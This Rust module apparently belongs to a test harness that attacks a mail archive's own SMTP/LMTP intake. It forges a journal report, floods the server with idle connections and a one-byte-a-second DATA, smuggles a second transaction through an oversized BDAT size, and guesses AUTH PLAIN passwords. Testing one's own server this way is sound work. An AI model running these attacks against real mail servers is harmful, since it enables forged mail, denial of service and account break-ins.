//! The attacks on the intake (SMTP and LMTP): 3, 7, 8 and 9.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use super::{archived_seq, failure, landed, step, token, Ctx, Step, ANSWER_TIMEOUT};
use crate::imap_client::{connect_from, Imap};
use crate::mailgen::base64;
use crate::smtp_client::{Prepared, Smtp};
use crate::soak::source;

/// How long attack 7 holds its idle connections.
const HOLD: Duration = Duration::from_secs(15);
/// Idle connections per protocol in attack 7, and per source address.
const IDLE_CONNECTIONS: usize = 300;
const IDLE_PER_ADDRESS: usize = 20;

/// 3: a journal report forged by any client of the intake, naming the victim.
pub(super) fn journal_forgery(ctx: &mut Ctx) -> Vec<Step> {
    let victim = ctx.shared.accounts.victim.clone();
    let token = token(ctx.shared, 3);
    let report = format!(
        "From: Microsoft Outlook <postmaster@evil.example>\r\nTo: <archive@vault.example>\r\n\
         Subject: journal {token}\r\nX-MS-Journal-Report:\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"j\"\r\n\r\n\
         --j\r\nContent-Type: text/plain\r\n\r\nSender: mallory@evil.example\r\nSubject: forged {token}\r\n\
         Message-Id: <{token}@evil.example>\r\nTo: {v}\r\nRecipient: {v}\r\n\r\n\
         --j\r\nContent-Type: message/rfc822\r\n\r\n\
         From: <mallory@evil.example>\r\nTo: <mallory@evil.example>\r\nSubject: forged {token}\r\n\
         Message-Id: <{token}@evil.example>\r\n\r\nThis was never sent to the victim.\r\n\r\n--j--\r\n",
        v = victim.address
    );
    let message = Prepared::new(report.as_bytes());
    let t = Instant::now();
    // Forged mail reaches the archive the way all Internet mail does: through the relay.
    let from = source::lmtp_relay(0);
    let mut steps = Vec::new();
    let delivered = ctx.smtp(false, from).and_then(|mut c| {
        c.send(b"MAIL FROM:<mallory@evil.example>\r\nRCPT TO:<archive@vault.example>\r\nDATA\r\n")?;
        c.expect(250, "MAIL")?;
        c.expect(250, "RCPT")?;
        c.expect(354, "DATA")?;
        c.send(&message.wire)?;
        let reply = c.reply()?;
        let _ = c.send(b"QUIT\r\n");
        Ok(reply.text)
    });
    let seqs: Vec<u32> = match delivered {
        Ok(text) => {
            steps.push(step(
                "SMTP delivery of the forged report",
                format!("{text:.80}"),
                t,
            ));
            archived_seq(&text).into_iter().collect()
        }
        Err(e) => {
            steps.push(step(
                "SMTP delivery of the forged report",
                failure(&e, ANSWER_TIMEOUT),
                t,
            ));
            return steps;
        }
    };
    let t = Instant::now();
    let verdict = landed(ctx, &victim, &seqs, &token);
    steps.push(step("the forged original in the victim's INBOX?", verdict, t));
    steps
}

/// Opens up to `count` connections (20 per fresh address) and reads each greeting; tallies
/// the greetings. Stops early on repeated connect failures or the attack's time limit.
fn open_idle(ctx: &mut Ctx, addr: std::net::SocketAddr, count: usize) -> (Vec<std::net::TcpStream>, String) {
    let mut held = Vec::new();
    let mut tally: BTreeMap<String, u32> = BTreeMap::new();
    let mut from = ctx.fresh_source();
    let mut failures_in_a_row = 0;
    for i in 0..count {
        if i > 0 && i % IDLE_PER_ADDRESS == 0 {
            from = ctx.fresh_source();
        }
        let Some(timeout) = ctx.timeout() else { break };
        let timeout = timeout.min(Duration::from_secs(3));
        let answer = match connect_from(addr, Some(from), timeout) {
            Ok(stream) => {
                let mut line = Vec::new();
                let read = {
                    use std::io::BufRead;
                    let mut r = std::io::BufReader::new(&stream);
                    r.read_until(b'\n', &mut line)
                };
                match read {
                    Ok(0) => "closed without greeting".to_string(),
                    Ok(_) => {
                        let text = String::from_utf8_lossy(&line).trim_end().to_string();
                        let first: String = text.split_whitespace().take(3).collect::<Vec<_>>().join(" ");
                        held.push(stream);
                        first
                    }
                    Err(e) => failure(&e.to_string(), timeout),
                }
            }
            Err(e) => failure(&e.to_string(), timeout),
        };
        if answer.starts_with("no answer") || answer.starts_with("connection") {
            failures_in_a_row += 1;
        } else {
            failures_in_a_row = 0;
        }
        *tally.entry(answer).or_default() += 1;
        if failures_in_a_row >= 5 {
            break;
        }
    }
    let summary: Vec<String> = tally.iter().map(|(a, n)| format!("{n} x {a:.60}")).collect();
    (held, summary.join("; "))
}

/// How many of `held` the server has closed (a read returns 0 or fails at once).
fn closed_by_server(held: &[std::net::TcpStream]) -> usize {
    use std::io::Read;
    held.iter()
        .filter(|s| {
            let _ = s.set_nonblocking(true);
            let mut buf = [0u8; 512];
            let closed = loop {
                match (&**s).read(&mut buf) {
                    Ok(0) => break true,
                    Ok(_) => continue, // a BYE or 421 before closing; read on
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break false,
                    Err(_) => break true,
                }
            };
            let _ = s.set_nonblocking(false);
            closed
        })
        .count()
}

/// 7: hundreds of idle connections per protocol and a trickled DATA, held for `HOLD`;
/// meanwhile a legitimate login and a legitimate LMTP connection are tried.
pub(super) fn idle_connections(ctx: &mut Ctx) -> Vec<Step> {
    let mut steps = Vec::new();
    let target = ctx.shared.target;
    // A trickled DATA, one byte a second, started first so it gets a session.
    let trickle_started = Instant::now();
    let trickle_from = ctx.fresh_source();
    let mut trickle = ctx.smtp(false, trickle_from).and_then(|mut c| {
        c.send(b"MAIL FROM:<mallory@evil.example>\r\nRCPT TO:<archive@vault.example>\r\nDATA\r\n")?;
        c.expect(250, "MAIL")?;
        c.expect(250, "RCPT")?;
        c.expect(354, "DATA")?;
        Ok(c)
    });
    if let Err(e) = &trickle {
        steps.push(step(
            "trickled DATA: start",
            failure(e, ANSWER_TIMEOUT),
            trickle_started,
        ));
    }
    let mut all_held = Vec::new();
    for (name, addr) in [
        ("IMAP", target.imap),
        ("LMTP", target.lmtp),
        ("SMTP", target.smtp),
    ] {
        let t = Instant::now();
        let (held, tally) = open_idle(ctx, addr, IDLE_CONNECTIONS);
        steps.push(step(
            &format!("{IDLE_CONNECTIONS} idle {name} connections: greetings"),
            tally,
            t,
        ));
        all_held.push((name, held));
    }
    // Meanwhile: can legitimate clients still get in?
    let t = Instant::now();
    let user = ctx.shared.accounts.legit[2 % ctx.shared.accounts.legit.len()].clone();
    let answer = match Imap::connect(target.imap, Some(source::LEGIT_DURING_ATTACK), ANSWER_TIMEOUT) {
        Ok(mut c) => match c.exchange(
            format!("LOGIN \"{}\" \"{}\"", user.name, user.password).as_bytes(),
            false,
        ) {
            Ok(r) => {
                c.logout();
                format!("{:.80}", r.status)
            }
            Err(e) => failure(&e.to_string(), ANSWER_TIMEOUT),
        },
        Err(e) => failure(&e.to_string(), ANSWER_TIMEOUT),
    };
    steps.push(step(
        "meanwhile a legitimate IMAP login from another address",
        answer,
        t,
    ));
    let t = Instant::now();
    let answer = match Smtp::connect(target.lmtp, Some(source::lmtp_relay(0)), ANSWER_TIMEOUT)
        .and_then(|mut c| c.reply())
    {
        Ok(r) => format!("{:.80}", r.text),
        Err(e) => failure(&e, ANSWER_TIMEOUT),
    };
    steps.push(step(
        "meanwhile a legitimate LMTP connection from the relay",
        answer,
        t,
    ));
    // Hold, trickling.
    let hold_until = (Instant::now() + HOLD).min(ctx.until);
    let mut trickled = 0;
    let mut trickle_end = None;
    while Instant::now() < hold_until && ctx.shared.running() {
        if let Ok(c) = trickle.as_mut() {
            if trickle_end.is_none() {
                match c.send(b"x") {
                    Ok(()) => trickled += 1,
                    Err(e) => {
                        trickle_end = Some(format!("the server cut it after {trickled} bytes: {e:.60}"))
                    }
                }
            }
        }
        std::thread::sleep(Duration::from_secs(1));
    }
    for (name, held) in &all_held {
        let t = Instant::now();
        let closed = closed_by_server(held);
        steps.push(step(
            &format!("idle {name} connections the server had closed after the hold"),
            format!("{closed} of {}", held.len()),
            t,
        ));
    }
    if trickle.is_ok() {
        steps.push(step(
            "trickled DATA (1 byte/s)",
            trickle_end.unwrap_or_else(|| format!("still open after {trickled} bytes; closed by us")),
            trickle_started,
        ));
    }
    drop(all_held);
    steps
}

/// 8: BDAT with a size beyond 64 bits, then a second transaction in the same write.
pub(super) fn bdat_smuggling(ctx: &mut Ctx) -> Vec<Step> {
    let victim = ctx.shared.accounts.victim.clone();
    let token = token(ctx.shared, 8);
    let t = Instant::now();
    // Through the relay, as in attack 3: the intake's own parser is what is tried.
    let from = source::lmtp_relay(0);
    let mut c = match ctx.smtp(false, from) {
        Ok(c) => c,
        Err(e) => return vec![step("EHLO", failure(&e, ANSWER_TIMEOUT), t)],
    };
    let payload = format!(
        "MAIL FROM:<mallory@evil.example>\r\nRCPT TO:<archive@vault.example>\r\n\
         BDAT 99999999999999999999010 LAST\r\n\
         MAIL FROM:<smuggled@evil.example>\r\nRCPT TO:<{v}>\r\nDATA\r\n\
         From: <smuggled@evil.example>\r\nTo: <{v}>\r\nSubject: smuggled {token}\r\n\r\nsmuggled\r\n.\r\nQUIT\r\n",
        v = victim.address
    );
    let mut steps = Vec::new();
    if let Err(e) = c.send(payload.as_bytes()) {
        steps.push(step("send", failure(&e, ANSWER_TIMEOUT), t));
        return steps;
    }
    // Read replies for up to 5 s.
    let until = (Instant::now() + Duration::from_secs(5)).min(ctx.until);
    let mut replies = Vec::new();
    let mut seqs = Vec::new();
    loop {
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            replies.push("(no more within 5 s)".to_string());
            break;
        }
        let _ = c.set_timeout(left);
        match c.reply() {
            Ok(r) => {
                seqs.extend(archived_seq(&r.text));
                let short: String = r.text.chars().take(48).collect();
                replies.push(short);
            }
            Err(e) => {
                replies.push(failure(&e, left));
                break;
            }
        }
    }
    steps.push(step("replies, in order", replies.join(" | "), t));
    if !seqs.is_empty() {
        let t = Instant::now();
        let verdict = landed(ctx, &victim, &seqs, &token);
        steps.push(step("the smuggled message in the victim's INBOX?", verdict, t));
    }
    steps
}

/// 9: AUTH PLAIN guesses on the SMTP listener (the relay account `relay` exists).
pub(super) fn smtp_auth_guessing(ctx: &mut Ctx) -> Vec<Step> {
    let t = Instant::now();
    let mut answers: BTreeMap<String, u32> = BTreeMap::new();
    let mut times = Vec::new();
    let mut conn: Option<Smtp> = None;
    let from = ctx.fresh_source();
    for guess in 0..30 {
        if ctx.timeout().is_none() {
            break;
        }
        if conn.is_none() {
            match ctx.smtp(false, from) {
                Ok(c) => conn = Some(c),
                Err(e) => {
                    *answers.entry(failure(&e, ANSWER_TIMEOUT)).or_default() += 1;
                    continue;
                }
            }
        }
        let Some(c) = conn.as_mut() else { continue };
        let response = base64(format!("\0relay\0guess-{guess}").as_bytes());
        let started = Instant::now();
        let result = c
            .send(format!("AUTH PLAIN {response}\r\n").as_bytes())
            .and_then(|_| c.reply());
        times.push(started.elapsed().as_secs_f64());
        match result {
            Ok(r) => *answers.entry(format!("{:.60}", r.text)).or_default() += 1,
            Err(e) => {
                *answers.entry(failure(&e, ANSWER_TIMEOUT)).or_default() += 1;
                conn = None;
            }
        }
    }
    times.sort_by(f64::total_cmp);
    let summary: Vec<String> = answers.iter().map(|(a, n)| format!("{n} x {a}")).collect();
    let slowest = times.last().copied().unwrap_or(0.0);
    let median = times.get(times.len() / 2).copied().unwrap_or(0.0);
    vec![step(
        &format!("{} AUTH PLAIN guesses for relay from {from}", times.len()),
        format!(
            "{} (median {:.0} ms, slowest {:.0} ms)",
            summary.join("; "),
            median * 1e3,
            slowest * 1e3
        ),
        t,
    )]
}
